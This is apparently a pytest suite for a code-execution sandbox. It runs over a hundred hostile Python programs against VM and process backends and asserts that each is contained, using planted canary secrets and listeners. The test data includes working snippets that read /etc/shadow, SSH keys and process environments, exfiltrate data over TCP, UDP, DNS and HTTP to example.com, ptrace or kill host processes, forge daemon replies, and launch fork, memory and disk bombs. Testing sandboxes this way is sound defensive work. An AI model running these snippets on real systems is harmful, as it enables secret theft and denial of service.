"""The hostile-program suite: each program attacks one property, on every backend.

Over a hundred short programs, grouped by category in data tables (CATEGORY_MINIMUM lists
the categories): reading and exfiltrating host secrets, deleting or rewriting host files,
the network (host loopback, the host's address, the internet, DNS, unix sockets), signalling
host processes, fork/memory/CPU bombs, disk fill, forged replies, huge and binary output,
and leftovers for the next run. Every case runs against the VM backend (a single-use QEMU
guest; marked `vm`, `integration` and `slow`) and the process backend (a limited host
process).

Around each case the `ctx` fixture plants host canaries: files holding a secret in the
host's temp dir, home and project folder, a fake VM key, the secret in the environment of
the test and of a host process, and listeners on loopback (TCP, TCP6, UDP, abstract and
path unix sockets) and the host's own address that record any connection. After the case
the canaries' and some real host files' hashes and modes are unchanged, the host process is
alive, not stopped and not reniced, no SysV IPC object or file carrying the token appeared,
no listener saw anything, and the next execution is clean.

Every case is contained on both backends. The process backend gives the code its own minimal
root (read-only /usr and the interpreter's own dirs, a made-up /etc, a few device nodes, a
private /proc and the run's work dir; see sandbox/process.py), so this project, the host's
/etc/passwd and a world-writable unix socket elsewhere on the host are not there at all; it
also hides the network, IPC and other processes. It still shares the host's kernel (no
seccomp filter) and caps memory per process only (no cgroup). The VM backend shares nothing
with the host but the forwarded SSH port.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from sandbox.executor import ExecutionResult, Limits

PROJECT = Path(__file__).resolve().parents[2]
LIMITS = Limits(
    wall_time_s=4.0,
    cpu_time_s=4.0,
    memory_mb=256,
    max_processes=32,
    max_output_bytes=100_000,
    max_file_size_mb=8,
    max_open_files=64,
)
# Under TCG emulation a VM is slow and the host may be busy; the deadline must still hold
# within the host's grace period.
DEADLINE_MARGIN_S = 12.0


@dataclass
class Ctx:
    token: str
    host_marker: str
    host_port: int
    udp_port: int
    tmp: Path
    secret: str = ""
    """Written into every canary file and the host's environments; must never come back."""
    canaries: dict[str, Path] = field(default_factory=dict)
    wm_home: Path = Path("/nonexistent")
    host_pid: int = 0
    runner_pid: int = 0
    tcp6_port: int = 0
    any_tcp_port: int = 0
    host_ip: str = "127.0.0.1"
    abstract: str = ""
    unix_path: str = ""
    ipc_key: int = 0


@dataclass
class Case:
    name: str
    code: Callable[[Ctx], str]
    check: Callable[[ExecutionResult, Ctx], None]
    vm_only: str | None = None
    limits: Limits = LIMITS
    cat: str = ""
    """The kind of attack (secrets, host_files, network, ...); see CATEGORY_MINIMUM."""


def _ends_in_time(r: ExecutionResult, _: Ctx) -> None:
    assert r.duration_s < LIMITS.wall_time_s + DEADLINE_MARGIN_S, r


def _timed_out(r: ExecutionResult, ctx: Ctx) -> None:
    assert r.timed_out, r
    assert not r.ok
    _ends_in_time(r, ctx)


def _failed_with(*needles: str) -> Callable[[ExecutionResult, Ctx], None]:
    def check(r: ExecutionResult, ctx: Ctx) -> None:
        assert r.exit_code != 0, r
        assert any(n in r.stderr for n in needles), (needles, r.stderr[-1000:])
        _ends_in_time(r, ctx)

    return check


def _prints(expected: str) -> Callable[[ExecutionResult, Ctx], None]:
    def check(r: ExecutionResult, ctx: Ctx) -> None:
        assert r.stdout.strip().splitlines()[-1:] == [expected], (r.stdout[-500:], r.stderr[-500:])

    return check


def _host_file_not_leaked(r: ExecutionResult, _: Ctx) -> None:
    shadow_lines = (
        Path("/etc/shadow").read_text().splitlines() if os.access("/etc/shadow", os.R_OK) else []
    )
    hashed = [ln for ln in shadow_lines if ln.split(":")[1] not in ("*", "!", "!*", "")]
    for line in hashed:
        assert line not in r.stdout


def _no_project_source(r: ExecutionResult, _: Ctx) -> None:
    marker = (PROJECT / "pyproject.toml").read_text().splitlines()[0]
    assert marker not in r.stdout, r.stdout[:300]
    assert "LEAKED" not in r.stdout


def _memory(r: ExecutionResult, ctx: Ctx) -> None:
    assert r.memory_exceeded, r
    assert not r.ok
    _ends_in_time(r, ctx)


def _truncated(stream: str) -> Callable[[ExecutionResult, Ctx], None]:
    def check(r: ExecutionResult, ctx: Ctx) -> None:
        assert r.output_truncated, r
        assert (
            len(getattr(r, stream).encode("utf-8", "surrogatepass")) <= LIMITS.max_output_bytes * 4
        )
        assert len(getattr(r, stream)) <= LIMITS.max_output_bytes
        _ends_in_time(r, ctx)

    return check


CONNECT = """
import socket
results = []
for host, port in {targets}:
    try:
        s = socket.create_connection((host, port), timeout=3)
        results.append(f"CONNECTED {{host}}:{{port}}")
        s.sendall(b"{token}")
    except OSError as exc:
        results.append(f"blocked {{host}}:{{port}} {{type(exc).__name__}}")
print("\\n".join(results))
"""


def _not_connected(r: ExecutionResult, ctx: Ctx) -> None:
    assert "CONNECTED" not in r.stdout, r.stdout
    assert "blocked" in r.stdout, (r.stdout, r.stderr[-500:])


# The code looks for a descriptor it did not open (on the VM: the daemon's connection to the
# host), writes its own reply frame (4-byte length + JSON) to every socket it finds, and then
# fails for real. The host must report that real failure: the code sees no descriptor beyond
# 0-2, and nothing it could write would be believed.
FORGE_REPLY = """
import base64, json, os, socket, stat, struct, sys
extra, sockets, wrote = [], [], []
for name in os.listdir('/proc/self/fd'):
    fd = int(name)
    if fd <= 2:
        continue
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue  # the descriptor listdir itself used
    extra.append((fd, os.readlink(f'/proc/self/fd/{{fd}}')))
    if stat.S_ISSOCK(mode):
        sockets.append(fd)
frame = {frame}
for fd in sockets:
    try:
        with socket.socket(fileno=os.dup(fd)) as s:
            s.sendall(struct.pack('>I', len(frame)) + frame)
        wrote.append(fd)
    except OSError as exc:
        print('write failed', fd, type(exc).__name__)
print('EXTRA', extra)
print('WROTE', wrote)
sys.exit(1)
"""


def _forged_run_reply(stdout: str) -> str:
    return (
        "json.dumps({'stdout': base64.b64encode(" + stdout + ").decode(), 'stderr': '', "
        "'exit_code': 0, 'timed_out': False, 'memory_exceeded': False, "
        "'output_truncated': False, 'duration_s': 0.1, 'cpu_exceeded': False, 'cpu_s': 0.1})"
        ".encode()"
    )


def _real_result_reported(r: ExecutionResult, _: Ctx) -> None:
    assert r.exit_code == 1 and not r.ok, r  # the code's own exit status, not a forged 0
    assert "WROTE []" in r.stdout and "EXTRA []" in r.stdout, (r.stdout[:500], r.stderr[-500:])
    assert len(r.stdout) <= LIMITS.max_output_bytes


# Other ways to the daemon's connection: its descriptors through /proc, pidfd_getfd or
# ptrace (the daemon is root, the code is not), and the daemon's log on the console.
STEAL_DAEMON_FDS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
parent = os.getppid()
stolen = []
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid == os.getpid():
        continue
    try:
        stolen.append(('fd dir', pid, os.listdir(f'/proc/{pid}/fd')))
    except OSError:
        pass
try:
    pidfd = os.pidfd_open(parent)
    for target in range(64):
        got = libc.syscall(438, pidfd, target, 0)  # pidfd_getfd
        if got >= 0:
            stolen.append(('pidfd_getfd', target, os.readlink(f'/proc/self/fd/{got}')))
except OSError as exc:
    print('pidfd_open', type(exc).__name__)
if libc.ptrace(16, parent, 0, 0) == 0:  # PTRACE_ATTACH
    stolen.append(('ptrace', parent))
for dev in ['/dev/console', '/dev/ttyS0', '/dev/hvc0', '/dev/tty0', '/dev/kmsg']:
    try:
        with open(dev, 'w') as f:
            f.write('forged WM-GUESTD-READY\\n')
        stolen.append(('write', dev))
    except OSError:
        pass
print('parent uid', os.stat(f'/proc/{parent}').st_uid)
print('STOLEN', stolen)
"""


CASES = [
    Case(
        "fork_bomb",
        lambda c: (
            "import os\n"
            "while True:\n"
            "    try:\n"
            "        os.fork()\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        _timed_out,
    ),
    Case("memory_bomb_at_once", lambda c: "x = bytearray(2 * 1024**3)\nprint(len(x))\n", _memory),
    Case(
        "memory_bomb_touched",
        lambda c: "chunks = []\nwhile True:\n    chunks.append(b'\\x01' * (16 * 1024 * 1024))\n",
        _memory,
        # Under emulation touching memory is slow (tens of MiB/s); a small cap keeps it quick.
        limits=replace(LIMITS, memory_mb=48),
    ),
    Case("infinite_loop", lambda c: "while True:\n    pass\n", _timed_out),
    Case("sleep_past_deadline", lambda c: "import time\ntime.sleep(1000)\n", _timed_out),
    Case("infinite_output", lambda c: "while True:\n    print('x' * 1000)\n", _truncated("stdout")),
    Case(
        "huge_single_line",
        lambda c: "import sys\nsys.stdout.write('y' * 50_000_000)\n",
        _truncated("stdout"),
    ),
    Case(
        "stderr_flood",
        lambda c: "import sys\nwhile True:\n    sys.stderr.write('e' * 4096)\n",
        _truncated("stderr"),
    ),
    Case(
        "disk_fill",
        lambda c: (
            "import os\nn = 0\ntry:\n    while True:\n"
            f"        with open('{c.token}-fill-%d' % n, 'wb') as f:\n"
            "            f.write(b'\\0' * (4 * 1024 * 1024))\n        n += 1\n"
            "except OSError as exc:\n    print('stopped', n, type(exc).__name__)\n"
        ),
        lambda r, c: (_ends_in_time(r, c), None if r.timed_out else _prints_contains(r, "stopped")),
    ),
    Case(
        "single_file_too_big",
        lambda c: (
            f"with open('{c.token}-big', 'wb') as f:\n    f.write(b'\\0' * (64 * 1024 * 1024))\n"
        ),
        lambda r, c: (_ends_in_time(r, c), _assert(r.exit_code != 0, r)),
    ),
    Case(
        "many_files",
        lambda c: (
            "n = 0\ntry:\n    while n < 200000:\n"
            f"        open('{c.token}-f%d' % n, 'w').close()\n        n += 1\n"
            "except OSError as exc:\n    print('stopped', n, type(exc).__name__)\n"
        ),
        _ends_in_time,
    ),
    Case(
        "read_etc_shadow",
        lambda c: "print(open('/etc/shadow').read())\n",
        lambda r, c: (
            _host_file_not_leaked(r, c),
            _assert(r.exit_code != 0 or "root" not in r.stdout, r),
        ),
    ),
    Case(
        "read_project_dir",
        lambda c: (
            "import os\n"
            f"p = {str(PROJECT)!r}\n"
            "try:\n    print(open(os.path.join(p, 'pyproject.toml')).read()); print('LEAKED')\n"
            "except OSError as exc:\n    print('blocked', type(exc).__name__)\n"
        ),
        _no_project_source,
    ),
    Case(
        "read_ssh_keys",
        lambda c: (
            "import glob\nfound = []\n"
            f"for pattern in ['/root/.ssh/*', '/etc/ssh/ssh_host_*key', '/etc/dropbear/*', "
            f"{str(c.tmp.parent / '**' / 'client_key')!r}, '/tmp/wm-test-images/*/client_key']:\n"
            "    for path in glob.glob(pattern, recursive=True):\n"
            "        try:\n            data = open(path).read()\n"
            "            if 'PRIVATE KEY' in data or len(data) > 0 and 'ssh-' not in data:\n"
            "                found.append(path)\n"
            "        except OSError:\n            pass\n"
            "print('READABLE', found)\n"
        ),
        lambda r, c: _assert("READABLE []" in r.stdout, r),
    ),
    Case(
        "write_outside_tmp",
        lambda c: (
            "import os\nwritten = []\n"
            f"for path in ['/etc/{c.token}', '/usr/lib/{c.token}', '/{c.token}', "
            f"{str(c.tmp / c.token)!r}, {str(PROJECT / c.token)!r}]:\n"
            "    try:\n        open(path, 'w').write('x')\n        written.append(path)\n"
            "    except OSError:\n        pass\n"
            "print('WROTE', written)\n"
        ),
        lambda r, c: (
            _assert(not (c.tmp / c.token).exists(), "wrote into the host's temp dir"),
            _assert(not (PROJECT / c.token).exists(), "wrote into the project"),
            _assert(f"/etc/{c.token}" not in r.stdout and f"/usr/lib/{c.token}" not in r.stdout, r),
        ),
    ),
    Case(
        "egress_public_ip",
        lambda c: CONNECT.format(targets=[("1.1.1.1", 80), ("8.8.8.8", 53)], token=c.token),
        _not_connected,
    ),
    Case(
        "egress_host_loopback_service",
        lambda c: CONNECT.format(
            targets=[("127.0.0.1", c.host_port), ("10.0.2.2", c.host_port), ("10.0.2.2", 22)],
            token=c.token,
        ),
        _not_connected,
    ),
    Case(
        "reach_the_guest_daemon",
        # The daemon that runs code as root stops listening once the host has connected.
        lambda c: CONNECT.format(targets=[("127.0.0.1", 7000)], token=c.token),
        _not_connected,
    ),
    Case(
        "forge_success_through_inherited_socket",
        lambda c: FORGE_REPLY.format(frame=_forged_run_reply("b'42\\n'")),
        _real_result_reported,
    ),
    Case(
        "forge_output_past_the_cap",
        lambda c: FORGE_REPLY.format(frame=_forged_run_reply("b'A' * 2_000_000")),
        _real_result_reported,
    ),
    Case(
        "forge_deeply_nested_reply",
        lambda c: FORGE_REPLY.format(frame="b'[' * 100_000 + b']' * 100_000"),
        _real_result_reported,
    ),
    Case(
        "steal_the_daemons_connection",
        lambda c: STEAL_DAEMON_FDS,
        lambda r, c: _assert("STOLEN []" in r.stdout, (r.stdout[-1000:], r.stderr[-500:])),
    ),
    Case(
        "egress_dns",
        lambda c: (
            "import socket\ntry:\n    print('RESOLVED', socket.getaddrinfo('example.com', 80))\n"
            "except OSError as exc:\n    print('blocked', type(exc).__name__)\n"
        ),
        lambda r, c: _assert("RESOLVED" not in r.stdout and "blocked" in r.stdout, r),
    ),
    Case(
        "egress_udp",
        lambda c: (
            "import socket\nsent = []\n"
            f"for host in ['127.0.0.1', '10.0.2.2', '10.0.2.3']:\n"
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    try:\n"
            f"        s.sendto(b'{c.token}', (host, {c.udp_port}))\n        sent.append(host)\n"
            "    except OSError:\n        pass\n"
            "print('sent', sent)\n"
        ),
        _ends_in_time,  # the host-side UDP listener asserts nothing arrived
    ),
    Case(
        "kill_parent",
        lambda c: "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint('survived')\n",
        _ends_in_time,
    ),
    Case(
        "kill_everything",
        lambda c: "import os, signal\nos.kill(-1, signal.SIGKILL)\n",
        _ends_in_time,
    ),
    Case(
        "kill_init",
        lambda c: (
            "import os, signal\n"
            "try:\n"
            "    os.kill(1, signal.SIGKILL)\n"
            "    print('KILLED')\n"
            "except OSError as e:\n"
            "    print('blocked', e.errno)\n"
        ),
        lambda r, c: _assert("KILLED" not in r.stdout, r),
    ),
    Case(
        "children_left_running",
        lambda c: (
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', "
            f"'import time; time.sleep(600)', '{c.token}'])\n"
            "print('parent done')\n"
        ),
        lambda r, c: (
            _assert(r.duration_s < LIMITS.wall_time_s + DEADLINE_MARGIN_S, r),
            _prints("parent done")(r, c),
        ),
    ),
    Case(
        "daemon_escapes_session",
        lambda c: (
            "import os, time\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        os.execvp('python3', ['python3', '-c', "
            f"'import time; time.sleep(600)', '{c.token}'])\n"
            "    os._exit(0)\n"
            "print('parent done')\n"
        ),
        lambda r, c: _prints("parent done")(r, c),
    ),
    Case(
        "zombies",
        lambda c: (
            "import os\n"
            "for _ in range(20):\n"
            "    if os.fork() == 0:\n"
            "        os._exit(0)\n"
            "print('left zombies')\n"
        ),
        lambda r, c: _prints("left zombies")(r, c),
    ),
    Case(
        "leftover_files",
        lambda c: (
            "import os\n"
            f"for d in ['.', os.environ.get('TMPDIR', '/tmp'), '/tmp', os.path.expanduser('~')]:\n"
            "    try:\n"
            f"        open(os.path.join(d, '{c.token}-left'), 'w').write('x')\n"
            "    except OSError:\n        pass\n"
            "print('planted')\n"
        ),
        lambda r, c: _prints("planted")(r, c),
    ),
    Case(
        "leftover_environment",
        lambda c: (
            f"import os\nos.environ['{c.token}'] = '1'\nos.putenv('{c.token}', '1')\nprint('set')\n"
        ),
        lambda r, c: _prints("set")(r, c),
    ),
    Case(
        "binary_output",
        lambda c: "import sys\nsys.stdout.buffer.write(bytes(range(256)) * 4)\n",
        lambda r, c: (_assert(r.exit_code == 0, r), _assert("\ufffd" in r.stdout, r)),
    ),
    Case(
        "non_utf8_stderr",
        lambda c: (
            "import sys\nsys.stderr.buffer.write(b'\\xff\\xfe bad \\xc3')\nsys.stderr.flush()\n"
        ),
        lambda r, c: (_assert(r.exit_code == 0, r), _assert("bad" in r.stderr, r)),
    ),
    Case(
        "read_host_dev",
        lambda c: (
            "import os\nread = []\n"
            "for name in ['vda', 'sda', 'nvme0n1', 'mem', 'kmem', 'kvm', 'port']:\n"
            "    try:\n        with open('/dev/' + name, 'rb') as f:\n            f.read(16)\n"
            "        read.append(name)\n    except OSError:\n        pass\n"
            "print('READ', read)\n"
        ),
        lambda r, c: _assert("READ []" in r.stdout, r),
    ),
    Case(
        "read_host_proc",
        lambda c: (
            "import os\nfound = []\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n"
            "        try:\n            cmd = open(f'/proc/{p}/cmdline', 'rb').read()\n"
            "        except OSError:\n            continue\n"
            f"        if b'{c.host_marker}' in cmd:\n            found.append(p)\n"
            "print('FOUND', found)\n"
        ),
        lambda r, c: _assert("FOUND []" in r.stdout, r),
    ),
    Case(
        "reboot",
        lambda c: (
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "rc = libc.reboot(0x01234567)\nprint('reboot returned', rc, ctypes.get_errno())\n"
        ),
        lambda r, c: _assert("reboot returned -1" in r.stdout, r),
    ),
    Case(
        "poweroff_command",
        lambda c: (
            "import subprocess\n"
            "for cmd in (['poweroff', '-f'], ['halt', '-f']):\n"
            "    try:\n"
            "        subprocess.run(cmd, timeout=3)\n"
            "    except Exception as e:\n"
            "        print(type(e).__name__)\n"
            "print('still here')\n"
        ),
        lambda r, c: _prints("still here")(r, c),
    ),
    Case(
        "sysrq_trigger",
        lambda c: (
            "try:\n"
            "    open('/proc/sysrq-trigger', 'w').write('b')\n"
            "    print('TRIGGERED')\n"
            "except OSError as e:\n"
            "    print('blocked', type(e).__name__)\n"
        ),
        lambda r, c: _assert("TRIGGERED" not in r.stdout, r),
    ),
    Case(
        "become_root",
        lambda c: (
            "import os\n"
            "try:\n"
            "    os.setuid(0)\n"
            "    print('ROOT')\n"
            "except OSError as e:\n"
            "    print('blocked', e.errno)\n"
            "print(os.getuid())\n"
        ),
        lambda r, c: _assert("ROOT" not in r.stdout and r.stdout.split()[-1] != "0", r),
    ),
    Case(
        "too_many_open_files",
        lambda c: (
            "fs = []\n"
            "try:\n"
            "    while True:\n"
            "        fs.append(open('/dev/null'))\n"
            "except OSError as e:\n"
            "    print('stopped', len(fs))\n"
        ),
        lambda r, c: _assert(
            r.stdout.startswith("stopped") and int(r.stdout.split()[1]) <= LIMITS.max_open_files, r
        ),
    ),
]


# The categories the suite spans; every case belongs to one, and each has a minimum.
CATEGORY_OF = {
    "fork_bomb": "bombs",
    "memory_bomb_at_once": "bombs",
    "memory_bomb_touched": "bombs",
    "infinite_loop": "bombs",
    "sleep_past_deadline": "bombs",
    "infinite_output": "output",
    "huge_single_line": "output",
    "stderr_flood": "output",
    "binary_output": "output",
    "non_utf8_stderr": "output",
    "disk_fill": "disk",
    "single_file_too_big": "disk",
    "many_files": "disk",
    "too_many_open_files": "disk",
    "read_etc_shadow": "secrets",
    "read_project_dir": "secrets",
    "read_ssh_keys": "secrets",
    "read_host_dev": "secrets",
    "read_host_proc": "secrets",
    "write_outside_tmp": "host_files",
    "egress_public_ip": "network",
    "egress_host_loopback_service": "network",
    "reach_the_guest_daemon": "network",
    "egress_dns": "network",
    "egress_udp": "network",
    "forge_success_through_inherited_socket": "forged_replies",
    "forge_output_past_the_cap": "forged_replies",
    "forge_deeply_nested_reply": "forged_replies",
    "steal_the_daemons_connection": "forged_replies",
    "kill_parent": "signals",
    "kill_everything": "signals",
    "kill_init": "signals",
    "reboot": "signals",
    "poweroff_command": "signals",
    "sysrq_trigger": "signals",
    "become_root": "signals",
    "children_left_running": "leftovers",
    "daemon_escapes_session": "leftovers",
    "zombies": "leftovers",
    "leftover_files": "leftovers",
    "leftover_environment": "leftovers",
}


def _leaks_nothing(r: ExecutionResult, c: Ctx) -> None:
    """No canary secret, in clear or base64, and no host file's content is in the output."""
    out = r.stdout + r.stderr
    for secret in (c.secret, base64.b64encode(c.secret.encode()).decode()):
        assert secret not in out, out[:1000]


# Reading host secrets: (name, path expression in the code).
READS = [
    ("read_canary_in_host_tmp", lambda c: repr(str(c.canaries["tmp"]))),
    ("read_canary_in_home", lambda c: repr(str(c.canaries["home"]))),
    ("read_canary_in_project", lambda c: repr(str(c.canaries["project"]))),
    ("read_etc_passwd", lambda c: "'/etc/passwd'"),
    ("read_etc_gshadow", lambda c: "'/etc/gshadow'"),
    ("read_root_ssh_key", lambda c: "'/root/.ssh/id_rsa'"),
    ("read_root_history", lambda c: "'/root/.bash_history'"),
    ("read_vm_image_client_key", lambda c: repr(str(c.wm_home / "client_key"))),
    ("read_host_process_environ", lambda c: f"'/proc/{c.host_pid}/environ'"),
    ("read_runner_environ", lambda c: f"'/proc/{c.runner_pid}/environ'"),
    ("read_runner_cmdline", lambda c: f"'/proc/{c.runner_pid}/cmdline'"),
    ("read_host_process_via_root_link", lambda c: f"'/proc/{c.host_pid}/root/etc/hostname'"),
    ("read_own_environ", lambda c: "'/proc/self/environ'"),
    ("read_init_environ", lambda c: "'/proc/1/environ'"),
    ("read_project_git_config", lambda c: repr(str(PROJECT / ".git"))),
]
READ_PROGRAM = """
import base64, os
p = {path}
try:
    if os.path.isdir(p):
        data = b'\\n'.join(os.fsencode(n) for n in os.listdir(p))
    else:
        data = open(p, 'rb').read()
    print('READ', len(data)); print(data[:20000].decode('latin-1'))
    print(base64.b64encode(data[:20000]).decode())
except OSError as exc:
    print('blocked', type(exc).__name__)
"""


def _host_content(path: str) -> str | None:
    """What the host itself holds at `path` (a file's text or a folder's names), if readable."""
    try:
        if os.path.isdir(path):
            return "\n".join(os.listdir(path))
        return Path(path).read_bytes()[:20000].decode("latin-1")
    except OSError:
        return None


def _read_check_for(path: Callable[[Ctx], str]) -> Callable[[ExecutionResult, Ctx], None]:
    def check(r: ExecutionResult, c: Ctx) -> None:
        _leaks_nothing(r, c)
        content = _host_content(eval(path(c)))  # the path is a Python literal
        if content and len(content) > 32:
            assert content not in r.stdout, r.stdout[:500]
        _ends_in_time(r, c)

    return check


def _env_check(r: ExecutionResult, c: Ctx) -> None:
    _leaks_nothing(r, c)
    assert "WM_CANARY_SECRET" not in r.stdout, r.stdout[:500]


# Exfiltration: the code reads what it can of the host (the project canary; nothing, on both
# backends) and sends it out; the host's listeners must see nothing.
EXFIL = {
    "exfil_over_tcp_loopback": "s = socket.create_connection(('127.0.0.1', {tcp}), timeout=2)\n"
    "s.sendall(data)",
    "exfil_over_tcp_to_host_ip": "s = socket.create_connection(({ip!r}, {any_tcp}), timeout=2)\n"
    "s.sendall(data)",
    "exfil_over_udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data[:512], "
    "('127.0.0.1', {udp}))",
    "exfil_over_dns": "socket.getaddrinfo(data[:40].hex() + '.example.com', 80)",
    "exfil_over_abstract_unix_socket": "s = socket.socket(socket.AF_UNIX)\n"
    "s.connect({abstract!r})\ns.sendall(data)",
    "exfil_over_http": "import urllib.request\nurllib.request.urlopen("
    "'http://example.com/?' + data[:40].hex(), timeout=3)",
}
EXFIL_PROGRAM = """
import socket
try:
    data = open({path!r}, 'rb').read()
except OSError:
    data = b'nothing'
try:
{send}
    print('SENT')
except OSError as exc:
    print('blocked', type(exc).__name__)
"""

# Connecting out: (name, host expression, port expression) for a TCP connection.
CONNECTS = [
    ("connect_host_loopback_v6", lambda c: [("::1", c.tcp6_port)]),
    ("connect_host_ip", lambda c: [(c.host_ip, c.any_tcp_port)]),
    ("connect_host_wildcard_listener_on_loopback", lambda c: [("127.0.0.1", c.any_tcp_port)]),
    ("connect_internet_https", lambda c: [("1.1.1.1", 443), ("93.184.215.14", 443)]),
    ("connect_internet_v6", lambda c: [("2606:4700:4700::1111", 443)]),
    ("connect_slirp_dns_and_host", lambda c: [("10.0.2.3", 53), ("10.0.2.2", c.any_tcp_port)]),
    # The guest's own sshd listens on its loopback; these are the host's usual services.
    ("connect_local_redis_and_postgres", lambda c: [("127.0.0.1", 6379), ("127.0.0.1", 5432)]),
]
NET_OTHER = {
    "connect_abstract_unix_socket": "import socket\ns = socket.socket(socket.AF_UNIX)\n"
    "try:\n    s.connect({abstract!r})\n    print('CONNECTED')\n"
    "except OSError as exc:\n    print('blocked', type(exc).__name__)\n",
    "raw_icmp_socket": "import socket\ntry:\n"
    "    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
    "    print('CONNECTED raw')\n"
    "except OSError as exc:\n    print('blocked', type(exc).__name__)\n",
    "packet_socket": "import socket\ntry:\n"
    "    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n    print('CONNECTED packet')\n"
    "except OSError as exc:\n    print('blocked', type(exc).__name__)\n",
    "dns_query_to_public_resolver": "import socket\n"
    "q = bytes.fromhex('abcd01000001000000000000076578616d706c6503636f6d0000010001')\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\n"
    "try:\n    s.sendto(q, ('8.8.8.8', 53))\n    s.recvfrom(512)\n    print('CONNECTED dns')\n"
    "except OSError as exc:\n    print('blocked', type(exc).__name__)\n",
    "dns_via_resolv_conf": "import socket\nns = '127.0.0.53'\ntry:\n"
    "    for line in open('/etc/resolv.conf'):\n"
    "        if line.startswith('nameserver'):\n            ns = line.split()[1]\n"
    "except OSError:\n    pass\ntry:\n"
    "    s = socket.create_connection((ns, 53), timeout=2)\n    print('CONNECTED', ns)\n"
    "except OSError as exc:\n    print('blocked', type(exc).__name__)\n",
    "connect_via_default_gateway": "import socket, struct\ngw = '10.0.2.2'\ntry:\n"
    "    for line in open('/proc/net/route').read().splitlines()[1:]:\n"
    "        f = line.split()\n        if f[1] == '00000000':\n"
    "            gw = socket.inet_ntoa(struct.pack('<I', int(f[2], 16)))\n"
    "except OSError:\n    pass\ntry:\n"
    "    socket.create_connection((gw, {any_tcp}), timeout=2)\n    print('CONNECTED', gw)\n"
    "except OSError as exc:\n    print('blocked', type(exc).__name__)\n",
}

# Deleting or rewriting host files: an operation on each canary (the hashes must not move).
WRITE_OPS = {
    "rewrite": "open(p, 'w').write('pwned')",
    "append": "open(p, 'a').write('pwned')",
    "delete": "os.remove(p)",
    "rename": "os.rename(p, p + '.moved')",
    "chmod": "os.chmod(p, 0o777)",
    "truncate": "os.truncate(p, 0)",
}
WRITE_PROGRAM = """
import os
p = {path}
try:
    {op}
    print('CHANGED')
except OSError as exc:
    print('blocked', type(exc).__name__)
"""
WRITE_OTHER = {
    "rewrite_project_pyproject": lambda c: WRITE_PROGRAM.format(
        path=repr(str(PROJECT / "pyproject.toml")), op=WRITE_OPS["append"]
    ),
    "plant_sitecustomize": lambda c: WRITE_PROGRAM.format(
        path="__import__('sysconfig').get_paths()['purelib'] + '/sitecustomize.py'",
        op=WRITE_OPS["rewrite"],
    ),
    "overwrite_the_interpreter": lambda c: WRITE_PROGRAM.format(
        path="'/proc/self/exe'", op=WRITE_OPS["append"]
    ),
    "hard_link_host_file_into_workdir": lambda c: WRITE_PROGRAM.format(
        path=repr(str(c.canaries["project"])),
        op="os.link(p, 'stolen'); open('stolen', 'a').write('x')",
    ),
}


def _unchanged_host(r: ExecutionResult, c: Ctx) -> None:
    # The hashes of every canary are compared after each case; here only the deadline.
    _ends_in_time(r, c)


# Signalling host processes: the host's sleeper (ctx.host_pid) and the test runner must live.
SIGNALS = {
    "sigkill_host_process": "os.kill({pid}, 9)",
    "sigstop_host_process": "os.kill({pid}, 19)",
    "sigterm_test_runner": "os.kill({runner}, 15)",
    "signal_host_process_group": "os.killpg({pid}, 9)",
    "pidfd_signal_host_process": "os.pidfd_open({pid})",
    "renice_host_process": "os.setpriority(os.PRIO_PROCESS, {pid}, 19)",
    "pin_host_process_cpu": "os.sched_setaffinity({pid}, {{0}})",
    "ptrace_host_process": "import ctypes\nassert ctypes.CDLL(None).ptrace(16, {pid}, 0, 0) == 0",
    "write_host_process_memory": "open('/proc/{pid}/mem', 'wb').write(b'x')",
    "kill_own_process_group": "os.killpg(0, 9)",
}
SIGNAL_PROGRAM = """
import os
try:
    {op}
    print('SIGNALLED')
except (OSError, AssertionError) as exc:
    print('blocked', type(exc).__name__)
"""

BOMBS = {
    "thread_bomb": "import threading, time\nwhile True:\n"
    "    threading.Thread(target=time.sleep, args=(100,)).start()\n",
    "subprocess_bomb": "import subprocess, sys\nps = []\nwhile True:\n"
    "    ps.append(subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(100)']))\n",
    "fork_and_allocate": "import os\nfor _ in range(16):\n    if os.fork() == 0:\n"
    "        x = bytearray(200 * 1024 * 1024)\n        os._exit(0)\nimport time\ntime.sleep(100)\n",
    "mmap_bomb": "import mmap\nm = mmap.mmap(-1, 8 * 1024**3)\n"
    "m[::4096] = b'x' * (8 * 1024**3 // 4096)\n",
    "recursion_bomb": "import sys\nsys.setrecursionlimit(10**7)\n"
    "def f(n):\n    return f(n + 1)\nf(0)\n",
    "regex_backtracking": "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')\n",
    "huge_integer_power": "x = 10 ** (10 ** 9)\n",
    "string_repeat_bomb": "s = 'x' * (2**40)\n",
    "shm_memory_fill": "import os\nd = '/dev/shm' if os.path.isdir('/dev/shm') else '.'\n"
    "with open(os.path.join(d, 'fill'), 'wb') as f:\n    while True:\n"
    "        f.write(b'\\0' * 4 * 1024 * 1024)\n",
}


def _bomb_contained(r: ExecutionResult, c: Ctx) -> None:
    assert not r.ok, r
    _ends_in_time(r, c)


DISK = {
    "fill_tmp": "/tmp",
    "fill_var_tmp": "/var/tmp",
    "fill_home": "~",
}
DISK_PROGRAM = """
import os
d = os.path.expanduser({d!r})
n = 0
try:
    while n < 64:
        with open(os.path.join(d, '{token}-fill-%d' % n), 'wb') as f:
            f.write(b'\\0' * (4 * 1024 * 1024))
        n += 1
except OSError as exc:
    print('stopped', n, type(exc).__name__)
"""
